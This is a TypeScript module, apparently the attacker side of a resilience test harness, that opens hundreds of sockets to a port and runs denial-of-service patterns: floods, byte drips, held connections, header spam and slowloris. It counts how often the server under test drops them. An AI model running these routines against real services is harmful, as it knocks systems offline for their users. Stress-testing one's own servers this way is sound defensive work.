// The attackers, in a process of their own: hundreds of sockets that mean harm.
// Rule: an attacker that is thrown out comes back; it stops only when it is told to.
import type { Socket } from 'node:net';
import { setImmediate as nextTurn, setTimeout as sleep } from 'node:timers/promises';
import { dial, dialWebSocket, gone, offersDeflate, requestHead, write } from '../network/raw.ts';
import { obey } from '../process/orders.ts';
import type { Attack } from './attack.ts';
import { payloadOf } from './payloads.ts';

export interface Tally {
  /** Attackers that have opened a connection at least once. */
  readonly opened: number;
  /** Bytes that the system has taken for them. */
  readonly bytes: number;
  /** How often one was thrown out, refused or dropped. */
  readonly thrownOut: number;
  /** Milliseconds from the dialling to the end, of the first and the last socket of a slowloris that was dropped. */
  readonly dropped: readonly number[];
}

const tally = { opened: 0, bytes: 0, thrownOut: 0 };
const dropped: number[] = [];
const sockets = new Set<Socket>();
let stopped = false;

function keep(socket: Socket): Socket {
  sockets.add(socket);
  socket.once('close', () => sockets.delete(socket));
  return socket;
}

async function open(attack: Attack, port: number): Promise<Socket> {
  const socket = keep(await dialWebSocket(port, attack.path, attack.deflate ? offersDeflate : ''));
  tally.opened += 1;
  return socket;
}

async function send(socket: Socket, bytes: Buffer): Promise<void> {
  if (bytes.length === 0) return;
  await write(socket, bytes);
  tally.bytes += bytes.length;
}

/** Opens again and again, and does something with each connection until it is gone. */
async function again(opening: () => Promise<Socket>, act: (socket: Socket) => Promise<void>): Promise<void> {
  while (!stopped) {
    try {
      const socket = await opening();
      await act(socket);
      socket.destroy();
    } catch {
      // Refused: the next attempt follows.
    }
    tally.thrownOut += 1;
    await sleep(5);
  }
}

async function drip(socket: Socket, prefix: Buffer): Promise<void> {
  await send(socket, prefix);
  const byte = Buffer.from('x');
  while (!stopped && !socket.destroyed) {
    for (let segment = 0; segment < 16; segment += 1) socket.write(byte);
    tally.bytes += 16;
    await sleep(2);
  }
}

async function flood(socket: Socket, first: Buffer, repeated: Buffer, reads: boolean): Promise<void> {
  if (reads) {
    socket.resume();
    socket.once('end', () => socket.destroy());
  }
  await send(socket, first);
  while (!stopped && !socket.destroyed) {
    await send(socket, repeated);
    // Small writes end within the turn: without this an attacker would not hear that it was thrown out.
    await nextTurn();
  }
}

async function slowloris(port: number): Promise<void> {
  const begun = Date.now();
  const socket = keep(await dial(port));
  tally.opened += 1;
  socket.resume();
  socket.once('end', () => socket.destroy());
  socket.once('close', () => dropped.push(Date.now() - begun));
  const head = requestHead('/swallow');
  for (let at = 0; at < head.length && !stopped && !socket.destroyed; at += 1) {
    socket.write(head.slice(at, at + 1));
    tally.bytes += 1;
    await sleep(2_000);
  }
}

/** What each attacker does until it is stopped. Resolves when it stands. */
function attacker(attack: Attack, port: number): Promise<unknown> {
  const { weapon } = attack;
  switch (weapon.kind) {
    case 'hold':
    case 'drip':
      // They open first, so that what a connection costs anyway is known before they strike.
      return open(attack, port);
    case 'flood': {
      const { once, repeated } = payloadOf(weapon.payload);
      void again(
        () => open(attack, port),
        (socket) => flood(socket, once, repeated, weapon.reads),
      );
      return Promise.resolve();
    }
    case 'heads':
      void again(
        async () => keep(await dial(port)),
        async (socket) => {
          socket.once('end', () => socket.destroy());
          await send(socket, payloadOf(weapon.payload).repeated);
          await gone(socket);
        },
      );
      return Promise.resolve();
    case 'slowloris':
      void slowloris(port).catch(() => {});
      return Promise.resolve();
    case 'listeners':
      void again(
        () => open(attack, port),
        (socket) => new Promise((resolve) => socket.once('close', resolve)),
      );
      return Promise.resolve();
  }
}

const orders = {
  /** Begins with so many attackers, a few dozen dialling at a time. */
  async begin(attack: Attack, port: number, count: number): Promise<void> {
    let left = count;
    const opener = async (): Promise<void> => {
      while (left > 0 && !stopped) {
        left -= 1;
        await attacker(attack, port);
        await sleep(1);
      }
    };
    await Promise.all(Array.from({ length: 50 }, opener));
  },
  /** Attackers that have only opened a connection so far do what they came for. */
  async strike({ weapon }: Attack): Promise<void> {
    if (weapon.kind !== 'hold' && weapon.kind !== 'drip') return;
    const { once } = payloadOf(weapon.payload);
    const standing = [...sockets];
    if (weapon.kind === 'hold') await Promise.all(standing.map((socket) => send(socket, once)));
    else for (const socket of standing) void drip(socket, once).catch(() => {});
  },
  tally: (): Tally => ({ ...tally, dropped: dropped.length === 0 ? [] : extremes(dropped) }),
  open: (): number => sockets.size,
  async stop(): Promise<void> {
    stopped = true;
    for (const socket of sockets) socket.resetAndDestroy();
    await sleep(50);
  },
};

const extremes = (values: readonly number[]): number[] => [
  values.reduce((least, value) => Math.min(least, value)),
  values.reduce((most, value) => Math.max(most, value)),
];

export type AttackerOrders = typeof orders;

obey(orders);
